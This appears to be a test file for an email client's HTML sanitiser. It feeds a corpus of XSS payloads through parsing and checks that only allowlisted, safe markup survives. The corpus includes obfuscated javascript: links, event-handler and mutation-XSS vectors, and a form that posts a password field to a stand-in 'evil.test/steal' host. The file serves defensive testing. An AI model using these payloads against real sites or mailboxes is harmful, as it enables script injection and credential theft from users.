/**
 * XSS via inbound HTML (SECURITY.md XS-01, SS-03): a payload corpus arrives as an email; the
 * stored safe HTML carries none of it (checked structurally, tag by tag and attribute by
 * attribute, and as text), remote images are off until clicked, links open safely, and the raw
 * HTML is kept byte for byte for the sandboxed "view original".
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Parser } from 'htmlparser2';
import { rawMail } from './email.fixtures.ts';
import { parseEmail } from './email.parse.ts';

const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="jav&#10;ascript:alert(1)">newline</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="JaVaScRiPt:alert(1)">case</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
  '<div style="width: expression(alert(1))">expr</div>',
  '<div style="background:url(javascript:alert(1))">bg</div>',
  '<p style="color: red; behavior: url(x.htc)">red</p>',
  '<style>@import url(http://evil.test/x.css); body{background:url(http://evil.test/t)}</style>',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
  '<base href="http://evil.test/">',
  '<link rel="stylesheet" href="http://evil.test/x.css">',
  '<iframe src="http://evil.test/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
  '<form action="http://evil.test/steal"><input name="password"><button formaction="http://evil.test/">Send</button></form>',
  '<object data="http://evil.test/x.swf"></object><embed src="http://evil.test/x.swf">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="//evil.test/protocol-relative">protocol-relative</a>',
  '<a href="/relative/path">relative</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p onclick="x()" onmouseover="y()">click</p>',
  '<img src="http://tracker.test/pixel.gif" width="1" height="1">',
  '<img src="cid:logo@example.com" alt="logo">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<a href="https://example.com/help">help page</a>',
  '<a href="mailto:help@example.com">write to us</a>',
];
const ORIGINAL = `<html><head><title>t</title></head><body>${PAYLOADS.join('\n')}</body></html>`;

const ALLOWED = new Set(
  `a abbr b big blockquote br caption center cite code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6
   hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr
   tt u ul var wbr`.split(/\s+/),
);

describe('inbound HTML sanitising', async () => {
  const mail = await parseEmail(
    rawMail(['From: a@example.com', 'Content-Type: text/html; charset=utf-8'], ORIGINAL),
  );
  const html = mail.html ?? '';

  test('the raw HTML is kept exactly, for the sandboxed "view original"', () => {
    assert.equal(mail.rawHtml, ORIGINAL.replace(/\r?\n/g, '\n'));
  });

  test('only allowlisted tags and safe attribute values survive', () => {
    const seen: string[] = [];
    const parser = new Parser({
      onopentag(name, attribs) {
        seen.push(name);
        assert.ok(ALLOWED.has(name), `tag <${name}> survived`);
        for (const [attr, value] of Object.entries(attribs)) {
          assert.ok(!attr.startsWith('on'), `event handler ${attr} survived`);
          if (attr === 'href') assert.match(value, /^(?:https?:\/\/[^/]|mailto:)/, `href ${value}`);
          if (attr === 'src') assert.match(value, /^(?:cid:|data:image\/(?:png|gif|jpe?g|webp|bmp);base64,)/);
          if (attr === 'data-remote-src') assert.match(value, /^https?:\/\//);
          if (attr === 'style') assert.doesNotMatch(value, /expression|url\(|behavior|@import/i);
        }
        if (name === 'a') {
          assert.equal(attribs.rel, 'noopener noreferrer nofollow');
          assert.equal(attribs.target, '_blank');
        }
      },
    });
    parser.write(html);
    parser.end();
    assert.ok(seen.includes('a') && seen.includes('img'), 'links and images are still there');
  });

  test('no script, no foreign URL scheme, no hostile origin anywhere in the text', () => {
    for (const bad of [
      'script',
      'javascript',
      'vbscript',
      'data:text/html',
      'evil.test',
      'srcdoc',
      'xlink',
      'svg+xml',
    ]) {
      assert.ok(!html.toLowerCase().includes(bad), `"${bad}" survived in ${html}`);
    }
    for (const content of ['onerror', '__xss']) assert.ok(!html.includes(content), `${content} survived`);
  });

  test('remote images are off until clicked; cid and inline PNG images stay', () => {
    assert.ok(
      html.includes('<img data-remote-src="http://tracker.test/pixel.gif" width="1" height="1" />'),
      html,
    );
    assert.doesNotMatch(html, /\ssrc="https?:/);
    assert.ok(html.includes('<img src="cid:logo@example.com" alt="logo" />'));
    assert.ok(html.includes('<img src="data:image/png;base64,iVBORw0KGgo=" />'));
  });

  test('safe links and harmless text formatting are kept', () => {
    assert.ok(
      html.includes(
        '<a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/help">help page</a>',
      ),
    );
    assert.ok(html.includes('href="mailto:help@example.com"'));
    assert.ok(html.includes('<p style="color:red">red</p>'));
    // The text of a link whose target was removed stays readable; the target does not.
    assert.ok(html.includes('>protocol-relative</a>') && !html.includes('//evil'));
    assert.ok(mail.text.includes('help page') && mail.text.includes('click'));
  });
});
